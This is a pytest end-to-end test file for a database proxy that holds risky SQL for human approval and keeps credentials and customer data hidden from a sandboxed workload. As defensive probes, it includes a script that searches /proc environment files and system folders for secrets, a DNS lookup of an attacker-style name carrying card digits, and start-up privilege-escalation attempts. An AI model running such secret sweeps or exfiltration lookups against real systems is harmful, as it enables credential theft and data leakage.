"""The customer-data policy with real people, real files and a real kernel: what is secret stays so, what is held waits."""

from __future__ import annotations

import base64
import json
import shutil
import time
from pathlib import Path

import pytest

from tests.e2e.conftest import HOLDS, example, python_of
from tests.e2e.talk import Talk, environment
from tests.stage import Service, Settings, World
from tests.stage.service import _WORKLOAD
from tests.stage.world import DATABASE_V4, wait_for

pytestmark = pytest.mark.e2e

PASSWORD = "S3cret-of-the-proxy-alone"
CUSTOMER_VALUES = (
    "ada.byron@example.com", "grace@example.org", "edsger@example.net", "barbara@example.com", "konrad@example.de",
    "4111 1111 1111 1111", "5555 5555 5555 4444", "3782 822463 10005", "4012 8888 8888 1881", "6011 1111 1111 1117",
    "+44 20 7946 0123", "+1 202-555-0143", "+31 20 555 0199", "+1 310-555-0188", "+49 30 5550 1234",
)  # fmt: skip

_DEAD = """\
protocol: postgres
hosts: ["{v4}"]
port: {port}
tls: disable
databases: [crm]
login:
  user: crm_proxy
  credential: {{file: {secret}}}
labels: {{env: demo}}
"""

_TARGET = """\
protocol: postgres
hosts: [crm.internal, {v4}, "fd77::2"]
port: 5432
tls: verify
ca_file: {folder}/company-ca.pem
databases: [crm]
users: [crm_app, postgres]
login:
  user: crm_proxy
  credential: {{file: {folder}/crm-password}}
labels: {{env: demo}}
"""


@pytest.fixture(scope="module")
def settings(world: World) -> Settings:
    workload = _WORKLOAD.format(company_ca=world.folder / "company-ca.pem").replace("[root]", "[root, dana, lee]")
    secret = world.folder / "crm-password"
    world.superuser_sql(
        "set role crm_proxy; create table held_rows (id int); insert into held_rows select generate_series(1, 5);"
        " create table scratch_brief (id int); insert into scratch_brief values (1)",
        database="crm",
    )
    return Settings(
        policies={"customer-data.yaml": example("customer-data").replace("truncate, ", ""), "holds.yaml": HOLDS},
        workloads={"support-bot.yaml": workload},
        targets={
            "crm-db.yaml": _TARGET.format(v4=DATABASE_V4, folder=world.folder),
            "dead-db.yaml": _DEAD.format(v4=DATABASE_V4, port=5999, secret=secret),
            "silent-db.yaml": _DEAD.format(v4="10.77.0.99", port=5998, secret=secret),
        },
        toml="[limits]\nconnect_timeout_s = 2\n",
    )


def _leaks(world: World) -> list[str]:
    """What reached the database host beside PostgreSQL and the proxy's own dial of the dead target."""
    return [line for line in world.sink_lines() if line != "packet tcp to port 5999"]


# -- approvals ---------------------------------------------------------------------------------------------------------------


def _ticket(service: Service, user: str = "dana", seconds: float = 15) -> dict[str, object]:
    found: list[dict[str, object]] = []

    def look() -> bool:
        listed = service.hostagent("approvals", "list", "--json", user=user)
        found[:] = json.loads(listed.stdout)
        return bool(found)

    wait_for(look, "a ticket", seconds)
    return found[0]


def _held(world: World) -> str:
    return world.superuser_sql("select count(*) from held_rows", database="crm")


def test_only_an_approver_who_is_not_the_launcher_releases_a_held_statement_in_its_own_transaction(
    world: World, service: Service
) -> None:
    with Talk(service, launcher="lee") as talk:
        talk.connect()
        talk.sql("begin")
        talk.sql("insert into notes values (77, 'in the same transaction')")
        held = talk.tell("sql", sql="delete from held_rows where id = %s", values=[2])
        ticket = _ticket(service)
        name = str(ticket["ticket"])
        shown = service.hostagent("approvals", "show", name, user="dana").stdout
        assert "delete from held_rows where id = $1" in shown
        assert service.hostagent("approvals", "approve", name, user="lee", check=False).returncode != 0
        assert service.hostagent("approvals", "approve", name, user="hostagent-rec", check=False).returncode != 0
        assert _held(world) == "5"
        granted = service.hostagent("approvals", "approve", name, user="dana")
        assert granted.returncode == 0
        again = service.hostagent("approvals", "approve", name, user="dana", check=False)
        assert again.returncode != 0
        answer = talk.answer(held)
        assert (answer["tag"], answer["status"]) == ("DELETE 1", "INTRANS")
        assert _held(world) == "5", "the transaction is not over yet"
        talk.sql("rollback")
    assert _held(world) == "5"
    assert world.superuser_sql("select count(*) from notes where id = 77", database="crm") == "0"
    [row] = service.wait_sql(f"select granted, approver from approvals where ticket = '{name}' and answered is not null")
    assert row == {"granted": True, "approver": "dana"}


def test_who_launched_a_workload_cannot_approve_for_it_even_as_a_member_of_the_group(world: World, service: Service) -> None:
    with Talk(service, launcher="dana") as talk:
        talk.connect()
        held = talk.tell("sql", sql="delete from held_rows where id = 3")
        name = str(_ticket(service)["ticket"])
        refused = service.hostagent("approvals", "approve", name, user="dana", check=False)
        assert refused.returncode != 0
        assert "launched" in refused.stdout + refused.stderr
        assert service.hostagent("approvals", "deny", name, user="dana").returncode == 0
        answer = talk.answer(held)
        assert answer["error"] == "42501"
        assert talk.sql("select 'usable'")["rows"] == [["usable"]]
    assert _held(world) == "5"


def test_nobody_answering_in_time_is_a_denial_that_leaves_the_session_usable(world: World, service: Service) -> None:
    with Talk(service) as talk:
        talk.connect()
        answer = talk.sql("truncate scratch_brief")
        assert answer["error"] == "42501"
        assert answer["closed"] is False
        assert 1.5 <= answer["seconds"] < 10
        assert any("hostagent" in notice or "held" in notice for notice in talk.notices()), talk.notices()
        assert talk.sql("select count(*) from scratch_brief")["rows"] == [[1]]


def test_cancelling_a_held_statement_voids_its_ticket(world: World, service: Service) -> None:
    with Talk(service) as talk:
        talk.connect()
        held = talk.tell("sql", sql="delete from held_rows where id = 4")
        name = str(_ticket(service)["ticket"])
        talk.tell("cancel")
        assert talk.answer(held)["error"] == "57014"
        assert service.hostagent("approvals", "approve", name, user="dana", check=False).returncode != 0
        assert talk.sql("select 'usable'")["rows"] == [["usable"]]
    assert _held(world) == "5"


@pytest.mark.parametrize(
    ("client", "said"),
    [
        (["{python}", "{clients}/asyncpg_client.py", "cancel_a_held_statement"], '["cancel_a_held_statement", ["cancelled", 1]]\n'),
        (["bash", "{clients}/psql_held.sh"], "1\n1\n"),
        (["node", "{clients}/node/client.cjs", "{node}", "cancel_a_held_statement"], '["cancel_a_held_statement",["57014",1]]\n'),
    ],
    ids=["asyncpg", "psql", "node"],
)
def test_other_drivers_can_cancel_a_held_statement(
    client: list[str], said: str, world: World, service: Service, node_modules: Path
) -> None:
    shutil.copytree(node_modules, world.folder / "node", dirs_exist_ok=True)
    places = {"python": python_of(world), "clients": world.repository / "tests/e2e/clients", "node": world.folder / "node"}
    result = service.launch(*environment(service), *(word.format(**places) for word in client), timeout=60)
    assert (result.returncode, result.stdout) == (0, said), result.stderr
    assert service.hostagent("approvals", "list", "--json", user="dana").stdout.strip() == "[]"


@pytest.mark.parametrize("leaving", ["drop", "kill"])
def test_a_client_that_leaves_voids_its_ticket(leaving: str, world: World, service: Service) -> None:
    with Talk(service) as talk:
        talk.connect()
        talk.tell("sql", sql="delete from held_rows where id = 5")
        name = str(_ticket(service)["ticket"])
        if leaving == "drop":
            talk.tell("drop")
        else:
            talk.kill()
        wait_for(lambda: service.hostagent("approvals", "list", "--json", user="dana").stdout.strip() == "[]", "the ticket to go")
        assert service.hostagent("approvals", "approve", name, user="dana", check=False).returncode != 0
    assert _held(world) == "5"


def test_a_workload_cannot_approve(service: Service) -> None:
    command = [*environment(service), *service.command, "approvals", "list"]
    inside = service.launch("env", f"HOSTAGENT_CONFIG={service.folder}/hostagent.toml", *command, timeout=60)
    assert inside.returncode != 0


# -- what must not be seen ---------------------------------------------------------------------------------------------------

_SEARCH = r"""
import json, os, stat, sys
needles = [bytes.fromhex(word) for word in sys.argv[1].split(",")]
skip = ("/proc/self/", "/sys/", "/mnt/hostagent", "/usr", "/var/lib/dpkg", "/var/lib/apt", "/var/cache", "/root", "/opt", "/lib", "/dev")
found, read = [], 0
for top in ("/proc", "/run", "/tmp", "/var/tmp", "/dev/shm", "/etc", "/mnt", "/home", "/var"):
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if not os.path.join(folder, f).startswith(skip) and f not in ("task", "map_files", "fd", "fdinfo")]
        for name in files:
            path = os.path.join(folder, name)
            try:
                if folder.startswith("/proc") and name not in ("environ", "cmdline", "comm", "maps", "mounts", "mountinfo", "status"):
                    continue
                if not stat.S_ISREG(os.stat(path).st_mode) or os.stat(path).st_size > 50_000_000:
                    continue
                with open(path, "rb") as file:
                    data = file.read()
            except OSError:
                continue
            read += 1
            if any(needle in data for needle in needles):
                found.append(path)
print(json.dumps({"read": read, "found": found, "secret": [p for p in sys.argv[2:] if os.access(p, os.R_OK)]}))
"""


def test_the_workload_can_read_no_credential_no_configuration_and_no_evidence(world: World, service: Service) -> None:
    places = [
        world.folder / "crm-password", service.config / "targets/crm-db.yaml", service.config / "policy",
        service.folder / "state/journal", service.folder / "state/evidence", service.folder / "state/proxyd", service.folder / "state/proxyd/ca.key",
        service.folder / "run/enforcerd.sock", service.folder / "run/proxyd/control.sock", world.folder / "postgres/cluster",
    ]  # fmt: skip
    needles = ",".join(secret.encode().hex() for secret in (PASSWORD, *CUSTOMER_VALUES))
    # A second process inside holds a session open while the first one looks round, so that there is something to find.
    busy = "psql -X -c \"select email, card_number, pg_sleep(2) from customers limit 1\" >/tmp/seen & "
    script = f"{busy} {python_of(world)} -c \"$0\" \"$@\""
    result = service.launch(*environment(service), "bash", "-c", script, _SEARCH, needles, *map(str, places), timeout=120)
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout.splitlines()[-1])
    assert report["read"] > 50
    assert report["found"] == []
    assert report["secret"] == []
    # The same search does find what is there to be found.
    planted = f"echo {CUSTOMER_VALUES[0]} > /tmp/planted; {python_of(world)} -c \"$0\" \"$@\""
    result = service.launch(*environment(service), "bash", "-c", planted, _SEARCH, needles, str(world.folder / "sinks.log"), timeout=120)
    assert json.loads(result.stdout) | {"read": 0} == {"read": 0, "found": ["/tmp/planted"], "secret": [str(world.folder / "sinks.log")]}


def _forms(value: str) -> list[bytes]:
    digits = "".join(character for character in value if character.isdigit())
    plain = [value] if "@" in value or len(digits) < 9 else [value, digits]
    forms = [form.encode() for form in plain]
    return [*forms, *(base64.b64encode(form)[:-4] for form in forms), *(form.hex().encode() for form in forms)]


def test_password_and_masked_values_are_found_nowhere_in_what_we_wrote(world: World, service: Service) -> None:
    """The workload touches every secret in every way it can think of; then everything we wrote is searched."""
    asked = [
        "select * from customers", "select email || card_number || phone from customers", "copy customers to stdout",
        "copy (select row_to_json(c) from customers c) to stdout", "select body from notes", "select email::int from customers",
        "select cast(card_number as int) from customers", "select * from customers where email = 'ada.byron@example.com'",
        "select 'my card is 4111 1111 1111 1111' as mine", "insert into notes values (9, 'write to konrad@example.de, +49 30 5550 1234')",
        "select xmlelement(name x, email) from customers", "select array_agg(card_number) from customers", "selec 'barbara@example.com'",
        "update customers set email = 'edsger@example.net' where email = 'edsger@example.net'", "drop table \"ada.byron@example.com\"",
        "select email as \"ada.byron@example.com\" from customers limit 1",
    ]  # fmt: skip
    with Talk(service) as talk:
        talk.connect()
        seen = [talk.sql(statement) for statement in asked if not statement.startswith("copy")]
        seen.append(talk.sql("select * from customers where card_number = %s", "4111 1111 1111 1111"))
        seen.append(talk.sql("select %s::text", "5555 5555 5555 4444"))
    words = [word for statement in asked for word in ("-c", statement)]
    assert any(answer.get("rows") for answer in seen)
    # What it never said itself must not have come back to it (the rest are its own words: literals, an alias).
    unspoken = [secret for secret in CUSTOMER_VALUES if secret not in json.dumps(asked)]
    assert len(unspoken) == 9
    psql = service.launch(*environment(service), "psql", "-X", "-At", *words, timeout=60)
    world.superuser_sql("delete from notes where id = 9", database="crm")
    for secret in unspoken:
        assert secret not in json.dumps(seen[:2]) + psql.stdout + psql.stderr, secret
    service.wait_sql("select 1 from statements where sqlstate = '42601' or decision = 'deny'", 15)
    wait_for(lambda: len(service.sql("select 1 from statements where text like '%xmlelement%'")) >= 2, "the last session's rows")
    written = _everything_written(service)
    assert len(written) > 10_000
    for secret in (PASSWORD, "superuser-only", *CUSTOMER_VALUES):
        for form in _forms(secret):
            at = written.find(form)
            assert at < 0, f"{secret!r} as {form!r}: …{written[max(0, at - 300) : at + 60]!r}"


def _everything_written(service: Service) -> bytes:
    """Return journal, databases, logs as raw bytes, and every public view as text (databases and Parquet compress)."""
    files = [path for top in ("state", "run") for path in sorted((service.folder / top).rglob("*")) if path.is_file()]
    views = ("sessions", "statements", "responses", "response_columns", "touched", "approvals", "denials", "refusals", "dns", "events", "timeline")
    parts = [service.log.read_bytes(), *(str(path).encode() + path.read_bytes() for path in files)]
    parts += [service.hostagent("sql", "--json", f"select * from {view}").stdout.encode() for view in views]
    return b"\n".join(parts)


def test_the_three_processes_keep_no_secret_in_their_environment_or_command_line(service: Service) -> None:
    for component in ("enforcerd", "proxyd", "recorderd"):
        for file in ("environ", "cmdline"):
            assert PASSWORD.encode() not in Path(f"/proc/{service.pid(component)}/{file}").read_bytes()


# -- the network as the workload sees it -------------------------------------------------------------------------------------


@pytest.mark.parametrize("mode", ["disable", "prefer", "require", "verify-ca", "verify-full"])
def test_every_sslmode_of_libpq_works_unchanged(mode: str, service: Service) -> None:
    result = service.launch(*environment(service, PGSSLMODE=mode), "psql", "-X", "-At", "-c", "select 'in'", timeout=60)
    assert (result.returncode, result.stdout) == (0, "in\n"), result.stderr


def test_tls_without_a_request_and_by_address_work_unchanged(world: World, service: Service) -> None:
    with Talk(service, PGSSLNEGOTIATION="direct", PGSSLMODE="require") as talk:
        assert talk.connect().get("connected"), talk.connect()
        assert talk.connect("b", "host=10.77.0.2 sslnegotiation=postgres sslmode=verify-full").get("connected")
        assert talk.connect("c", "host=fd77::2 sslnegotiation=postgres sslmode=verify-full").get("connected")


def test_names_of_targets_resolve_and_others_do_not_exist(service: Service) -> None:
    inside = "getent ahosts crm.internal | cut -d' ' -f1 | sort -u; getent ahosts evil.example; echo $?; getent ahosts leak-4111.attacker.test; echo $?"
    result = service.launch("bash", "-c", inside, timeout=60)
    assert result.stdout.split() == ["10.77.0.2", "fd77::2", "2", "2"]
    rows = service.wait_sql("select distinct name, outcome from dns where name like '%attacker.test%' or name like '%evil%'", 15)
    assert {row["outcome"] for row in rows} == {"refused"}


def test_the_workloads_own_loopback_server_works(world: World, service: Service) -> None:
    program = """
import socket, threading
for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    server = socket.create_server((address, 8099), family=family)
    threading.Thread(target=lambda s=server: s.accept()[0].sendall(b"hello"), daemon=True).start()
    print(socket.create_connection((address, 8099), 5).recv(5).decode())
"""
    result = service.launch(python_of(world), "-c", program, timeout=60)
    assert result.stdout.split() == ["hello", "hello"], result.stderr


@pytest.mark.parametrize(("address", "port", "words"), [(DATABASE_V4, 5999, "refused"), ("10.77.0.99", 5998, "")])
def test_a_dead_target_is_a_clear_error_and_not_a_hang(address: str, port: int, words: str, service: Service) -> None:
    started = time.monotonic()
    dsn = f"host={address} port={port} dbname=crm user=crm_app sslmode=disable"
    result = service.launch(*environment(service), "psql", "-X", dsn, "-c", "select 1", timeout=60)
    assert result.returncode == 2
    assert "FATAL" in result.stderr
    assert address in result.stderr
    assert words in result.stderr.lower()
    assert time.monotonic() - started < 15


def test_a_server_that_is_no_target_is_closed_by_verdict_and_recorded(world: World, service: Service) -> None:
    dsn = f"host={DATABASE_V4} port=5433 dbname=crm user=crm_app sslmode=disable"
    result = service.launch(*environment(service), "psql", "-X", dsn, "-c", "select 1", timeout=60)
    assert result.returncode == 2
    [row] = service.wait_sql(f"select distinct layer, reason from refusals where destination = '{DATABASE_V4}:5433'", 15)
    assert row["layer"] == "proxy"
    assert _leaks(world) == []


@pytest.mark.parametrize("wish", ["dbname=postgres", "user=crm_proxy", "user=crm_app options='-c session_authorization=postgres'", "replication=database"])
def test_what_the_target_does_not_grant_at_start_up_is_refused(wish: str, service: Service) -> None:
    result = service.launch(*environment(service), "psql", "-X", wish, "-c", "select 'in'", timeout=60)
    assert result.returncode == 2, result.stdout
    assert "hostagent" in result.stderr


def test_evidence_of_all_this_holds(world: World, service: Service) -> None:
    assert "The evidence holds." in service.hostagent("audit", "verify").stdout
    assert service.sql("select * from unaccounted") == []
    assert _leaks(world) == []


def test_a_client_that_demands_scram_and_channel_binding_uses_the_placeholder(world: World) -> None:
    with Service(world, Settings(toml='table = "ha_scram"\n[postgres]\nclient_auth = "scram"\n'), name="scram") as service:
        listed = service.hostagent("target", "list").stdout
        assert "hostagent" in listed
        for password, expected in (("hostagent", 0), ("wrong", 2)):
            result = service.launch(
                *environment(service, PGPASSWORD=password, PGCHANNELBINDING="require"), "psql", "-X", "-At", "-c", "select 'in'", timeout=60
            )
            assert result.returncode == expected, result.stderr
